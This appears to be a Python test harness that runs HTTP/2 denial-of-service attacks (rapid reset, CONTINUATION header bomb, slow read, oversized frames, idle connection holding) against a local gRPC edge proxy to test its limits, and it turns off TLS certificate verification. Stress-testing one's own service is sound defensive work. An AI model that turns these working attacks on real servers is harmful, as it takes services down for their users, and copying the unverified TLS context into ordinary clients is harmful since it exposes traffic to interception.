#!/usr/bin/python3
"""Whoever wants the edge down: edge_attacker.py KIND HOST:PORT SECONDS. Writes when it begins, and how
often it tried.
edge_attacker.py idle HOST:PORT COUNT holds so many connections, writes how many it made and how many of
them stand then, and stays.

Comes from 127.0.0.2, so that what the edge limits by address is the attacker's own.
"""
import signal
import socket
import ssl
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
PATH = b"/veille.calls.v1.ScriptService/ListScripts"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value):
    return bytes([len(value)]) + value


def call_headers():
    """HPACK: indexed names where the static table has them, nothing compressed."""
    return (b"\x83\x87\x04" + text(PATH) + b"\x01" + text(b"edge") +
            b"\x0f\x10" + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers"))


def anybody():
    """Believes every server, and reads no list of authorities for it: that would cost more than the rest."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


CONTEXT = anybody()


def connect(address, window=65535):
    host, port = address.rsplit(":", 1)
    plain = socket.create_connection((host, int(port)), timeout=2, source_address=("127.0.0.2", 0))
    connection = CONTEXT.wrap_socket(plain)
    settings = (4).to_bytes(2, "big") + window.to_bytes(4, "big")
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
    return connection


def rapid_reset(address, end):
    """1,000 calls a second and connection, each taken back at once."""
    count = 0
    connection = None
    cancel = (8).to_bytes(4, "big")
    while time.monotonic() < end:
        try:
            if connection is None:
                connection, stream = connect(address), 1
            burst = b""
            for _ in range(20):
                burst += frame(HEADERS, END_HEADERS, stream, call_headers())
                burst += frame(RST_STREAM, 0, stream, cancel)
                stream += 2
            connection.sendall(burst)
            count += 20
        except OSError:
            connection = None
        time.sleep(0.02)
    return count


def header_bomb(address, end):
    """Metadata without end, until the connection is closed; 20 a second."""
    junk = (b"\x00" + text(b"x-bomb") + text(b"a" * 100)) * 100

    def bomb(connection):
        connection.sendall(frame(HEADERS, 0, 1, call_headers()))
        for _ in range(1000):
            connection.sendall(frame(CONTINUATION, 0, 1, junk))

    return one_each(address, end, bomb)


def slow_read(address, end):
    """300 connections that take one byte of an answer, and never read."""
    held = []
    while time.monotonic() < end:
        try:
            if len(held) < 300:
                held.append(connect(address, window=1))
                for stream in range(1, 21, 2):
                    held[-1].sendall(
                        frame(HEADERS, END_HEADERS | END_STREAM, stream, call_headers()))
        except OSError:
            pass
        time.sleep(0.01)
    return len(held)


def large_frames(address, end):
    """Messages of 4 MiB in frames of 1 MiB, past every window; 20 a second."""
    body = frame(DATA, 0, 1, bytes(1 << 20))

    def push(connection):
        connection.sendall(frame(HEADERS, END_HEADERS, 1, call_headers()))
        for _ in range(4):
            connection.sendall(body)

    return one_each(address, end, push)


def one_each(address, end, attack):
    """A connection for each attack, 20 a second; the edge closes it, or we do."""
    count = 0
    while time.monotonic() < end:
        try:
            with connect(address) as connection:
                count += 1
                attack(connection)
        except OSError:
            pass
        time.sleep(0.05)
    return count


def idle(address, count):
    """Connections that never do anything."""
    held = [connect(address) for _ in range(count)]
    print("HELD", len(held), flush=True)
    stand = 0
    for connection in held:
        connection.setblocking(False)
        try:
            while connection.recv(4096):
                pass
        except ssl.SSLWantReadError:
            stand += 1  # nothing came, no end either
        except OSError:
            pass
    print("STAND", stand, flush=True)
    signal.pause()


if sys.argv[1] == "idle":
    idle(sys.argv[2], int(sys.argv[3]))
KINDS = {"rapid-reset": rapid_reset, "header-bomb": header_bomb, "slow-read": slow_read,
         "large-frames": large_frames}
print("BEGIN", flush=True)
print("TRIED", KINDS[sys.argv[1]](sys.argv[2], time.monotonic() + float(sys.argv[3])), flush=True)
